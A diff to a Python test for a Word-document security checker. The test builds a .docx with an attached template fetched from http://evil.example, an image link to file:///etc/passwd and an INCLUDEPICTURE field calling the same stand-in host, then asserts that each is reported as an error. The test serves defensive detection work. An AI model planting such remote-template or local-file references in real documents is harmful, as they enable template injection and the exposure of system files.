@@ -115,6 +115,7 @@ def test_links_out_of_the_file_are_reported_web_links_are_not(tmp_path: Path) ->
     # check said «không thấy lỗi» for a .docx that Word would make fetch a server template
     # and read /etc/passwd (a review); template check reported both.
     from docx.opc.constants import RELATIONSHIP_TYPE as RT
+    from docx.oxml import OxmlElement
 
     document = docx.Document()
     document.add_paragraph("Nội dung.")
@@ -123,9 +124,14 @@ def test_links_out_of_the_file_are_reported_web_links_are_not(tmp_path: Path) ->
                        + "/attachedTemplate", is_external=True)
     document.part.relate_to("file:///etc/passwd", RT.IMAGE, is_external=True)
     document.part.relate_to("https://congdoan.vn", RT.HYPERLINK, is_external=True)
+    field = document.add_paragraph().add_run()._r  # a field that loads a picture from a server
+    instruction = OxmlElement("w:instrText")
+    instruction.text = 'INCLUDEPICTURE "http://evil.example/p.png"'
+    field.append(instruction)
     path = tmp_path / "links.docx"
     document.save(str(path))
     links = [f for f in check(path) if f.rule == "external-link"]
-    assert sorted(f.message.split("(", 1)[1].split(",")[0] for f in links) == [
-        "attachedTemplate → http://evil.example/t.dotm", "image → file:///etc/passwd"]
+    assert sorted(f.message.split("(", 1)[1].split(",")[0].strip() for f in links) == [
+        "attachedTemplate → http://evil.example/t.dotm", "field → INCLUDEPICTURE",
+        "image → file:///etc/passwd"]
     assert all(f.severity == "error" for f in links)
